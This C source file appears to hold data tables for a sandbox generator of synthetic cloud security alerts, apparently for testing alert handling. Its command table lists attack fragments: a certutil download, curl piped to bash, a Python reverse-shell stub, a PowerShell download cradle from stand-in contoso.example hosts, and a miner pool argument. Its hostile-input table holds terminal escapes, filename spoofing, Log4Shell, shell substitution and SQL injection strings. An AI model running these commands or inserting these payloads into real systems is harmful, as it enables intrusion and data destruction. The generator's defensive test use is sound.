/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "sandbox/gen_text.h"

#define COUNT(array) (sizeof(array) / sizeof((array)[0]))

const struct gen_kind_text gen_kinds[GEN_KIND_N] = {
    [GEN_VM] = {"Microsoft.Compute/virtualMachines", "vm", "VirtualMachines"},
    [GEN_STORAGE] = {"Microsoft.Storage/storageAccounts", "stcontoso",
                     "StorageAccounts"},
    [GEN_SUBSCRIPTION] = {"", "", "ResourceManager"},
    [GEN_SQL] = {"Microsoft.Sql/servers", "sql", "SqlServers"},
    [GEN_AKS] = {"Microsoft.ContainerService/managedClusters", "aks",
                 "KubernetesService"},
    [GEN_VAULT] = {"Microsoft.KeyVault/vaults", "kv", "KeyVaults"},
    [GEN_WEB] = {"Microsoft.Web/sites", "app", "AppServices"},
    [GEN_COSMOS] = {"Microsoft.DocumentDB/databaseAccounts", "cosmos",
                    "CosmosDbs"},
    [GEN_API] = {"Microsoft.ApiManagement/service", "apim", NULL},
    [GEN_AI] = {"Microsoft.CognitiveServices/accounts", "oai", NULL},
    [GEN_ADDRESS] = {"Microsoft.Network/publicIPAddresses", "pip", NULL},
};

const char *const gen_severities[GEN_SEVERITY_N] = {
    [GEN_INFORMATIONAL] = "Informational",
    [GEN_LOW] = "Low",
    [GEN_MEDIUM] = "Medium",
    [GEN_HIGH] = "High",
};

const struct gen_process gen_processes[] = {
    {"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0", "\\\\",
     "powershell.exe"},
    {"C:\\\\Windows\\\\System32", "\\\\", "certutil.exe"},
    {"/usr/bin", "/", "curl"},
    {"/usr/bin", "/", "python3"},
    {"C:\\\\Users\\\\Public", "\\\\", "svch0st.exe"},
    {"/tmp/.x", "/", "kworkerds"},
    {"/bin", "/", "bash"},
    {"C:\\\\Windows\\\\System32", "\\\\", "rundll32.exe"},
    {"/usr/sbin", "/", "sshd"},
    {"C:\\\\inetpub\\\\wwwroot\\\\app", "\\\\", "w3wp.exe"},
};
const size_t gen_processes_n = COUNT(gen_processes);

const struct gen_place gen_places[] = {
    {"NL", "Noord-Holland", "Amsterdam", "4.895", "52.37", 64496},
    {"US", "Virginia", "Ashburn", "-77.48", "39.04", 64497},
    {"DE", "Hessen", "Frankfurt", "8.68", "50.11", 64498},
    {"JP", "Tokyo", "東京", "139.69", "35.68", 64499},
    {"BR", "São Paulo", "São Paulo", "-46.63", "-23.55", 64500},
    {"SG", "Singapore", "Singapore", "103.82", "1.35", 64501},
    {"PL", "Mazowieckie", "Warszawa", "21.01", "52.23", 64502},
};
const size_t gen_places_n = COUNT(gen_places);

const char *const gen_users[] = {
    "svc-backup", "administrator", "jan.de.vries", "m.müller", "sql_admin",
    "deploy",     "root",          "ana.garcía",   "田中",     "o'brien",
    "контора",    "app-pool",      "azureuser",    "k8s-node",
};
const size_t gen_users_n = COUNT(gen_users);

const char *const gen_commands[] = {
    "-NoProfile -ExecutionPolicy Bypass -EncodedCommand",
    "-urlcache -split -f https://dl.contoso.example/",
    "-fsSL https://pkg.contoso.example/install.sh | bash -s --",
    "-c \\\"import socket,os,pty;s=socket.socket()\\\"",
    "/c whoami /all && net localgroup administrators",
    ("-w hidden -nop -c IEX(New-Object Net.WebClient)"
     ".DownloadString('https://cdn.contoso.example/')"),
    "--donate-level 1 -o pool.contoso.example:3333 -u",
};
const size_t gen_commands_n = COUNT(gen_commands);

const char *const gen_regions[] = {
    "westeurope", "northeurope", "eastus",        "eastus2",
    "uksouth",    "japaneast",   "francecentral", "germanywestcentral",
};
const size_t gen_regions_n = COUNT(gen_regions);

const char *const gen_steps[] = {
    "1. Ask the owner of the resource whether this was expected, and note "
    "who answered.",
    "2. If it was not: cut the resource off, by a network security group "
    "that denies everything in both directions.",
    "3. Reset the credentials of every account that signed in during the "
    "last 24 hours, and revoke its refresh tokens.",
    "4. Run a full scan, and look through scheduled tasks, services and "
    "start-up items for what was left behind.",
    "5. Keep a copy of memory and disk before the machine is made anew, and "
    "write down who had it in hand.",
    "6. If this detection means nothing in your environment, suppress it for "
    "exactly this case.",
};
const size_t gen_steps_n = COUNT(gen_steps);

const char *const gen_hostile[] = {
    "\\u001b[2J\\u001b[1;1Hroot@console:~# ",
    "\\u001b]0;owned\\u0007",
    "\\u001b[8;1;1t",
    "\\u202e gpj.exe",
    "\\u2066x\\u2069",
    "A\u0300\u0301\u0302\u0303\u0300\u0301\u0302\u0303\u0300\u0301\u0302",
    "👩\u200d👩\u200d👧\u200d👦🏴",
    "\\u009b31m",
    "\\r\\nHost: x",
    "${jndi:ldap://x}",
    "$(reboot)",
    "'; DROP TABLE alerts;--",
    "{{constructor}}",
    "\\u0001",
};
const size_t gen_hostile_n = COUNT(gen_hostile);
